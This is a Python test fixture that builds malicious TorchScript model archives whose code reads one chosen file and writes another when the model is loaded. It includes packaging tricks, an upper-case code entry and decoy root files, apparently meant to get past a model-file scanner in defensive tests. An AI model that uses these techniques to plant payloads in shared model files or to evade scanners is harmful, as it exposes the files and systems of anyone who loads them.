"""Hostile TorchScript archives, built the way an attacker would: code that reads and writes files on load."""

from __future__ import annotations

import zipfile
from pathlib import Path

import torch

_READ, _WRITE = "/prunekit-attack/read", "/prunekit-attack/write"


class _Evil(torch.nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.w = torch.zeros(1)

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, bool]:
        return (self.w, self.training)

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, bool]) -> None:
        # Runs inside torch.jit.load. The paths are placeholders, rewritten per attack in the archive's code.
        self.w = torch.from_file("/prunekit-attack/read", False, 1, dtype=torch.uint8).float()
        torch.save(self.w, "/prunekit-attack/write")
        self.training = state[1]

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x.flatten(1)[:, :10] + self.w.sum()


def _rewrite(
    src: Path, dst: Path, paths: tuple[str, str], rename: dict[str, str], decoys: tuple[str, ...] = ()
) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_STORED) as zout:
        for i, info in enumerate(zin.infolist()):
            data = zin.read(info)
            if info.filename.endswith(".py"):
                data = data.replace(_READ.encode(), paths[0].encode()).replace(_WRITE.encode(), paths[1].encode())
            zout.writestr(rename.get(info.filename, info.filename), data)
            if i == 0:
                for name in decoys:  # after the first entry: torch still takes its folder from entry one
                    zout.writestr(name, b"decoy")
    return dst


def evil_torchscript(folder: Path, read_path: str, write_path: str, packaging: str) -> Path:
    """A TorchScript file whose load reads `read_path` and writes `write_path`, packaged as `packaging`.

    'plain' (as torch writes it), 'upper_case_code' (code entry renamed *.PY: torch finds it regardless of case),
    'root_decoys' (root-level data.pkl/constants.pkl so no common folder is found and the code looks absent).
    """
    template = folder / "template.pt"
    torch.jit.save(torch.jit.script(_Evil()), str(template))
    with zipfile.ZipFile(template) as zf:
        top = zf.namelist()[0].split("/", 1)[0]
    code, paths = f"{top}/code/__torch__.py", (read_path, write_path)
    if packaging == "plain":
        return _rewrite(template, folder / "plain.pt", paths, {})
    if packaging == "upper_case_code":
        return _rewrite(template, folder / "upper.pt", paths, {code: f"{top}/code/__torch__.PY"})
    if packaging == "root_decoys":
        decoys = ("data.pkl", "constants.pkl", "code/__torch__.py")
        return _rewrite(template, folder / "decoys.pt", paths, {}, decoys=decoys)
    raise ValueError(packaging)


PACKAGINGS = ("plain", "upper_case_code", "root_decoys")
